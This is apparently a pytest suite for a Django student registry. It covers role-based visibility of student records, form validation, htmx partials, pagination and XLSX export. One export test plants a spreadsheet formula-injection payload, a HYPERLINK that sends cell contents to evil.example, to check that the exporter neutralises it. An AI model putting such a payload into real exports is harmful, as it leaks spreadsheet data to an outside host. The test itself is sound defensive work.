"""Registry pages per role: what renders, what is hidden, forms, htmx, pages, the XLSX export."""

import io
import re
from datetime import date

import pytest
from django.conf import settings
from openpyxl import load_workbook

from qadam.common.models import AuditEntry, Job
from qadam.registry.models import Student
from qadam.registry.tests.factories import ROLES, StudentFactory, iin_for

LIST_PAGES = [
    "/registry/students/",
    "/registry/institutions/",
    "/registry/programs/",
    "/registry/enterprises/",
    "/registry/specialties/",
]
HTMX = {"HTTP_HX_REQUEST": "true"}


def visible_students(world, role):
    return {
        "ministry_admin": world.all_students,
        "college_admin_a": world.students_a,
        "college_admin_b": world.students_b,
        "university_admin": [world.university_student, world.branch_student],
        "student": [world.students_a[0]],
    }.get(role, [])


def html(response):
    return response.content.decode()


def student_form_data(world, **overrides):
    data = {
        "iin": iin_for(date(2008, 6, 1), "F", 99),
        "last_name": "Сапарова",
        "first_name": "Алия",
        "middle_name": "",
        "region": world.region_a.pk,
        "institution": world.college_a.pk,
        "program": world.programs_a[0].pk,
        "year_of_study": 1,
        "funding": "state_order",
        "status": "active",
        "enrolled_on": "2025-09-01",
        "expected_graduation_on": "2028-06-30",
    }
    return {**data, **overrides}


# --------------------------------------------------------------------------- every page, every role


@pytest.mark.parametrize("path", LIST_PAGES)
@pytest.mark.parametrize("role", ROLES)
def test_every_list_page_renders_for_every_role(world, users, client_for, role, path):
    response = client_for(users[role]).get(path)
    assert response.status_code == 200
    assert "<html" in html(response)


@pytest.mark.parametrize("path", [*LIST_PAGES, "/registry/students/new/", "/jobs/"])
def test_pages_send_anonymous_visitors_to_sign_in(world, client_for, path):
    response = client_for(None).get(path)
    assert response.status_code == 302
    assert response["Location"].startswith(f"/accounts/login/?next={path}")


@pytest.mark.parametrize("role", ROLES)
def test_student_detail_in_scope_renders_and_out_of_scope_is_404(world, users, client_for, role):
    client = client_for(users[role])
    in_scope = {s.pk for s in visible_students(world, role)}
    for student in world.all_students:
        response = client.get(f"/registry/students/{student.pk}/")
        if student.pk in in_scope:
            assert response.status_code == 200
            assert student.iin in html(response)
        else:
            assert response.status_code == 404


@pytest.mark.parametrize("role", ROLES)
def test_organisation_and_program_pages_render_for_every_role(world, users, client_for, role):
    client = client_for(users[role])
    for path in (
        f"/registry/institutions/{world.college_b.pk}/",
        f"/registry/institutions/{world.branch.pk}/",
        f"/registry/enterprises/{world.enterprise.pk}/",
        f"/registry/programs/{world.programs_b[0].pk}/",
    ):
        assert client.get(path).status_code == 200, path
    for path in ("institutions", "enterprises", "programs", "students"):
        assert client.get(f"/registry/{path}/{10**9}/").status_code == 404


# --------------------------------------------------------------------------- who sees whom


def test_analyst_students_page_shows_counts_and_no_iin(world, users, client_for):
    response = client_for(users["analyst"]).get("/registry/students/", {"by": "institution"})
    page = html(response)
    assert 'data-testid="counts"' in page
    assert re.search(r'data-testid="counts-total">\s*8\s*<', page)
    assert world.college_a.name in page
    for person in [*world.all_students, *world.all_educators]:
        assert person.iin not in page
        assert person.last_name not in page


def test_analyst_cannot_find_a_person_by_iin_on_the_counts_page(world, users, client_for):
    target = world.students_b[1]
    page = html(
        client_for(users["analyst"]).get(
            "/registry/students/", {"q": target.iin, "by": "institution"}
        )
    )
    # Counts for one IIN would say where that person studies.
    assert re.search(r'data-testid="counts-total">\s*8\s*<', page)


@pytest.mark.parametrize(
    ("role", "own", "other"), [("college_admin_a", "a", "b"), ("college_admin_b", "b", "a")]
)
def test_college_admin_student_list_shows_own_iins_and_none_of_the_other(
    world, users, client_for, role, own, other
):
    page = html(client_for(users[role]).get("/registry/students/"))
    for student in getattr(world, f"students_{own}"):
        assert student.iin in page
    for student in [*getattr(world, f"students_{other}"), world.university_student]:
        assert student.iin not in page


def test_student_sees_only_themselves_in_the_list(world, users, client_for):
    page = html(client_for(users["student"]).get("/registry/students/"))
    me = world.students_a[0]
    assert me.iin in page
    assert not any(s.iin in page for s in world.all_students if s != me)


@pytest.mark.parametrize("role", ["enterprise_hr", "guidance_organiser"])
def test_roles_without_people_see_no_student_on_the_students_page(world, users, client_for, role):
    page = html(client_for(users[role]).get("/registry/students/"))
    assert not any(s.iin in page or s.last_name in page for s in world.all_students)


def test_students_page_filters(world, users, client_for):
    client = client_for(users["ministry_admin"])
    page = html(client.get("/registry/students/", {"funding": "paid"}))
    paid = {world.students_a[1].iin, world.students_b[2].iin}
    assert all(iin in page for iin in paid)
    assert not any(s.iin in page for s in world.all_students if s.iin not in paid)
    page = html(client.get("/registry/students/", {"q": "Абд"}))
    assert world.students_a[2].iin in page and world.students_a[0].iin not in page


@pytest.mark.parametrize(
    "query",
    [
        {"region": "abc"},
        {"year_of_study": "x"},
        {"institution": "-1"},
        {"specialty": "1.5"},
        {"region": "²"},
    ],
)
def test_malformed_filter_shows_everything_not_an_error(world, users, client_for, query):
    response = client_for(users["ministry_admin"]).get("/registry/students/", query)
    assert response.status_code == 200
    assert all(s.iin in html(response) for s in world.all_students)


@pytest.mark.parametrize("field", ["region", "institution", "specialty", "year_of_study"])
def test_filter_id_beyond_the_database_range_is_not_an_error(world, users, client_for, field):
    response = client_for(users["ministry_admin"]).get(
        "/registry/students/", {field: "99999999999999999999"}
    )
    assert response.status_code == 200


# --------------------------------------------------------------------------- languages


@pytest.mark.parametrize(
    ("language", "students_label"), [("kk", "Студенттер"), ("ru", "Студенты"), ("en", "Students")]
)
@pytest.mark.parametrize("path", ["/", "/registry/students/", "/registry/programs/", "/about/"])
def test_pages_render_in_the_chosen_language(
    world, users, client_for, language, students_label, path
):
    client = client_for(users["college_admin_a"])
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    response = client.get(path)
    assert response.status_code == 200
    assert f'<html lang="{language}">' in html(response)
    assert f">{students_label}</a>" in html(response)


# --------------------------------------------------------------------------- forms


def test_student_create_form_with_bad_iin_shows_the_error_beside_iin(world, users, client_for):
    before = (Student.objects.count(), AuditEntry.objects.count())
    response = client_for(users["college_admin_a"]).post(
        "/registry/students/new/", student_form_data(world, iin="123456789012")
    )
    assert response.status_code == 200
    page = html(response)
    errors = re.search(r'<ul class="errorlist" data-field="iin">(.*?)</ul>', page, re.S)
    assert errors and "ИИН" in errors.group(1)  # the page is in Russian, so is the message
    assert 'data-field="last_name"' not in page
    assert (Student.objects.count(), AuditEntry.objects.count()) == before


def test_student_form_with_year_of_study_out_of_range_shows_it_beside_the_field(
    world, users, client_for
):
    before = Student.objects.count()
    response = client_for(users["college_admin_a"]).post(
        "/registry/students/new/", student_form_data(world, year_of_study=9)
    )
    assert response.status_code == 200
    assert 'data-field="year_of_study"' in html(response)
    assert Student.objects.count() == before


def test_student_form_with_a_full_width_digit_iin_shows_the_error_beside_iin(
    world, users, client_for
):
    response = client_for(users["college_admin_a"]).post(
        "/registry/students/new/", student_form_data(world, iin="９００５１５３０１２３４")
    )
    assert response.status_code == 200
    assert 'data-field="iin"' in html(response)
    assert not Student.objects.filter(last_name="Сапарова").exists()


def test_student_create_form_creates_the_student(world, users, client_for):
    data = student_form_data(world)
    response = client_for(users["college_admin_a"]).post("/registry/students/new/", data)
    student = Student.objects.get(iin=data["iin"])
    assert response.status_code == 302
    assert response["Location"] == f"/registry/students/{student.pk}/"
    assert (student.birth_date, student.sex) == (date(2008, 6, 1), "F")


def test_college_admin_cannot_create_a_student_at_another_college(world, users, client_for):
    before = Student.objects.count()
    response = client_for(users["college_admin_b"]).post(
        "/registry/students/new/", student_form_data(world)
    )
    assert response.status_code == 200  # the form refuses a college outside its choices
    assert 'data-field="institution"' in html(response)
    assert Student.objects.count() == before


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("ministry_admin", 200),
        ("college_admin_a", 200),
        ("university_admin", 200),
        ("analyst", 403),
        ("enterprise_hr", 403),
        ("student", 403),
        ("guidance_organiser", 403),
    ],
)
def test_student_create_page_is_for_administrators(world, users, client_for, role, status):
    assert client_for(users[role]).get("/registry/students/new/").status_code == status


def test_student_edit_shows_history_on_the_detail_page(world, users, client_for):
    client = client_for(users["college_admin_a"])
    student = world.students_a[1]
    data = student_form_data(
        world,
        iin=student.iin,
        last_name="Бекова-Ли",
        program=world.programs_a[1].pk,
        funding="paid",
        year_of_study=2,
    )
    response = client.post(f"/registry/students/{student.pk}/edit/", data)
    assert response.status_code == 302
    page = html(client.get(f"/registry/students/{student.pk}/"))
    assert 'data-testid="history"' in page and "Бекова-Ли" in page


@pytest.mark.parametrize(
    ("role", "can_edit"), [("ministry_admin", True), ("college_admin_a", True), ("student", False)]
)
def test_only_editors_see_the_edit_link_and_history(world, users, client_for, role, can_edit):
    student = world.students_a[0]
    page = html(client_for(users[role]).get(f"/registry/students/{student.pk}/"))
    assert (f"/registry/students/{student.pk}/edit/" in page) is can_edit


def test_student_edit_of_another_college_is_404(world, users, client_for):
    student = world.students_a[1]
    client = client_for(users["college_admin_b"])
    assert client.get(f"/registry/students/{student.pk}/edit/").status_code == 404
    response = client.post(f"/registry/students/{student.pk}/edit/", student_form_data(world))
    assert response.status_code == 404
    student.refresh_from_db()
    assert student.last_name == "Бекова"


def test_program_edit_page_of_another_college_is_refused(world, users, client_for):
    program = world.programs_a[0]
    response = client_for(users["college_admin_b"]).get(f"/registry/programs/{program.pk}/edit/")
    assert response.status_code in (403, 404)


def test_program_edit_with_more_state_seats_than_capacity_shows_the_error(world, users, client_for):
    program = world.programs_a[0]
    response = client_for(users["college_admin_a"]).post(
        f"/registry/programs/{program.pk}/edit/",
        {
            "language": "kk",
            "form": "classic",
            "duration_months": 34,
            "capacity": 10,
            "state_funded_seats": 11,
        },
    )
    assert response.status_code == 200
    assert 'data-field="state_funded_seats"' in html(response)
    program.refresh_from_db()
    assert (program.capacity, program.state_funded_seats) == (25, 20)


@pytest.mark.parametrize(
    ("role", "status"),
    [("ministry_admin", 200), ("enterprise_hr", 403), ("college_admin_a", 403), ("analyst", 403)],
)
def test_enterprise_create_page_is_for_the_ministry(world, users, client_for, role, status):
    assert client_for(users[role]).get("/registry/enterprises/new/").status_code == status


def test_enterprise_form_with_bad_bin_shows_the_error_beside_bin(world, users, client_for):
    response = client_for(users["ministry_admin"]).post(
        "/registry/enterprises/new/",
        {
            "name": "X",
            "bin": "123456789012",
            "sector": "it",
            "size": "micro",
            "region": world.region_a.pk,
        },
    )
    assert response.status_code == 200
    assert 'data-field="bin"' in html(response)
    assert world.enterprise.__class__.objects.count() == 1


# --------------------------------------------------------------------------- htmx and pagination


@pytest.mark.parametrize("path", LIST_PAGES)
def test_htmx_request_gets_only_the_results_table(world, users, client_for, path):
    response = client_for(users["ministry_admin"]).get(path, **HTMX)
    page = html(response)
    assert response.status_code == 200
    assert page.lstrip().startswith("<table")
    assert 'data-testid="results"' in page
    # no page and no filter form; only the export's form, which carries the filters
    assert "<html" not in page and 'class="filters"' not in page
    assert page.count("<form") == page.count('data-testid="list-export"') == 1


@pytest.mark.parametrize(
    ("page", "surnames"),
    [
        ("1", ["Абаев", "Абдиев"]),
        ("2", ["Бекова"]),
        ("999", ["Бекова"]),
        ("abc", ["Абаев", "Абдиев"]),
    ],
)
def test_student_list_pages_clamp_to_the_last_one(
    world, users, client_for, settings, page, surnames
):
    settings.QADAM_PAGE_SIZE = 2
    response = client_for(users["college_admin_a"]).get(
        "/registry/students/", {"page": page}, **HTMX
    )
    shown = [s.last_name for s in world.students_a if s.iin in html(response)]
    assert sorted(shown) == sorted(surnames)


def test_pagination_keeps_the_filters_in_its_links(world, users, client_for, settings):
    settings.QADAM_PAGE_SIZE = 1
    page = html(client_for(users["ministry_admin"]).get("/registry/students/", {"funding": "paid"}))
    assert "funding=paid&amp;page=2" in page or "funding=paid&page=2" in page


# --------------------------------------------------------------------------- export


@pytest.fixture
def export(world, users, client_for, django_capture_on_commit_callbacks):
    """College A's administrator exports their students; returns (client, job)."""

    def run(user_key="college_admin_a", **filters):
        client = client_for(users[user_key])
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post("/registry/students/export/", filters)
        job = Job.objects.get(owner=users[user_key])
        assert response.status_code == 302
        assert response["Location"] == f"/jobs/{job.pk}/"
        return client, job

    return run


def read_rows(response):
    content = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.active.iter_rows()]


def test_export_writes_exactly_the_colleges_students(world, users, export):
    client, job = export()
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED
    page = client.get(f"/jobs/{job.pk}/")
    assert 'data-status="succeeded"' in html(page)
    assert f"/jobs/{job.pk}/download/" in html(page)
    download = client.get(f"/jobs/{job.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    rows = read_rows(download)
    iins = sorted(row[0].value for row in rows[1:])
    assert iins == sorted(s.iin for s in world.students_a)


def test_export_keeps_the_filters_of_the_list(world, users, export):
    client, job = export(funding="paid")
    rows = read_rows(client.get(f"/jobs/{job.pk}/download/"))
    assert [row[0].value for row in rows[1:]] == [world.students_a[1].iin]


def test_export_neutralises_a_formula_in_a_surname(world, users, export):
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    StudentFactory(institution=world.college_a, program=world.programs_a[0], last_name=formula)
    client, job = export()
    rows = read_rows(client.get(f"/jobs/{job.pk}/download/"))
    surnames = [row[1] for row in rows[1:]]
    cell = next(c for c in surnames if "HYPERLINK" in str(c.value))
    assert cell.data_type == "s"
    assert cell.value == "'" + formula
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_failed_export_shows_why_and_offers_no_download(world, users, export, monkeypatch):
    def fail(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("qadam.common.tasks.write_xlsx", fail)
    client, job = export()
    job.refresh_from_db()
    assert (job.status, job.message) == (Job.Status.FAILED, "disk full")
    page = html(client.get(f"/jobs/{job.pk}/"))
    assert 'data-status="failed"' in page and "disk full" in page
    assert f"/jobs/{job.pk}/download/" not in page
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404


def test_another_user_cannot_see_or_download_the_job(world, users, client_for, export):
    _client, job = export()
    for role in ("college_admin_b", "ministry_admin"):
        other = client_for(users[role])
        assert other.get(f"/jobs/{job.pk}/").status_code == 404
        assert other.get(f"/jobs/{job.pk}/download/").status_code == 404


@pytest.mark.parametrize("role", ["analyst", "enterprise_hr", "guidance_organiser"])
def test_export_is_forbidden_to_roles_that_see_no_people(world, users, client_for, role):
    response = client_for(users[role]).post("/registry/students/export/")
    assert response.status_code == 403
    assert not Job.objects.exists()


def test_export_by_get_creates_no_job(world, users, client_for):
    response = client_for(users["college_admin_a"]).get("/registry/students/export/")
    assert response.status_code == 302
    assert not Job.objects.exists()


def test_a_colleges_page_shows_its_profile_and_a_schools_none(world, users, client_for):
    world.college_a.__class__.objects.filter(pk=world.college_a.pk).update(profile="oil_gas")
    client = client_for(users["analyst"])
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = html(client.get(f"/registry/institutions/{world.college_a.pk}/"))
    assert "<dt>college profile</dt><dd>oil and gas</dd>" in page
    page = html(client.get(f"/registry/institutions/{world.college_b.pk}/"))
    assert "college profile" not in page
